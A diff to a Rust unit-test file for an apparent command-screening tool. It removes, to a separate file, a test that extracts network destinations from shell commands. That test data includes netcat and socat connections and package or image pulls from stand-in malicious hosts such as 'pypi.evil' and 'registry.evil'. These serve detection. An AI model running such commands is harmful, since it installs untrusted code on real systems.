@@ -1,5 +1,5 @@
 //! Unit tests: constructs, wrappers, flag forms, data vs execution, indeterminate cases,
-//! destinations, built-in rules.
+//! built-in rules (destinations are in `destinations.rs`).
 
 use std::path::Path;
 
@@ -425,93 +425,4 @@ fn protected_writes() {
     }
     assert!(rules("cat .claude/settings.json").is_empty());
     assert!(rules("toolgate validate").is_empty());
-}
-
-fn dests(cmd: &str) -> Vec<Destination> {
-    analyze(cmd).destinations
-}
-
-fn host(h: &str, port: Option<u16>, p: &str) -> Destination {
-    Destination::Host {
-        host: h.into(),
-        port,
-        program: p.into(),
-    }
-}
-
-fn url(u: &str, p: &str) -> Destination {
-    Destination::Url {
-        url: u.into(),
-        program: p.into(),
-    }
-}
-
-#[test]
-fn destinations() {
-    assert_eq!(
-        dests("curl -sS -H 'a: b' https://a.example/x"),
-        [url("https://a.example/x", "curl")]
-    );
-    assert_eq!(
-        dests("wget -O out a.example/f"),
-        [url("http://a.example/f", "wget")]
-    );
-    assert_eq!(
-        dests("http POST api.example.com/x a=b"),
-        [url("http://api.example.com/x", "http")]
-    );
-    assert_eq!(
-        dests("git clone https://github.com/a/b"),
-        [url("https://github.com/a/b", "git")]
-    );
-    assert_eq!(
-        dests("git clone git@github.com:a/b.git"),
-        [host("github.com", None, "git")]
-    );
-    assert_eq!(
-        dests("git remote add origin ssh://h.example/r"),
-        [url("ssh://h.example/r", "git")]
-    );
-    assert!(dests("git status").is_empty());
-    assert_eq!(
-        dests("ssh -p 2222 me@h.example ls"),
-        [host("h.example", Some(2222), "ssh")]
-    );
-    assert_eq!(
-        dests("scp f me@h.example:/tmp/"),
-        [host("h.example", None, "scp")]
-    );
-    assert_eq!(
-        dests("rsync -av -e ssh d/ h.example:/d"),
-        [host("h.example", None, "rsync")]
-    );
-    assert_eq!(
-        dests("nc -v h.example 80"),
-        [host("h.example", Some(80), "nc")]
-    );
-    assert_eq!(
-        dests("socat - TCP:h.example:443"),
-        [host("h.example", Some(443), "socat")]
-    );
-    assert_eq!(
-        dests("telnet h.example 23"),
-        [host("h.example", Some(23), "telnet")]
-    );
-    assert_eq!(
-        dests("pip install -i https://pypi.evil/simple x"),
-        [url("https://pypi.evil/simple", "pip")]
-    );
-    assert_eq!(
-        dests("npm install --registry=https://r.evil x"),
-        [url("https://r.evil", "npm")]
-    );
-    assert_eq!(
-        dests("docker pull registry.evil:5000/img:1"),
-        [host("registry.evil", Some(5000), "docker")]
-    );
-    assert!(dests("docker run -e X=1 ubuntu:22.04 ls").is_empty());
-    assert_eq!(
-        dests("sudo bash -c 'curl https://a.example'"),
-        [url("https://a.example", "curl")]
-    );
 }
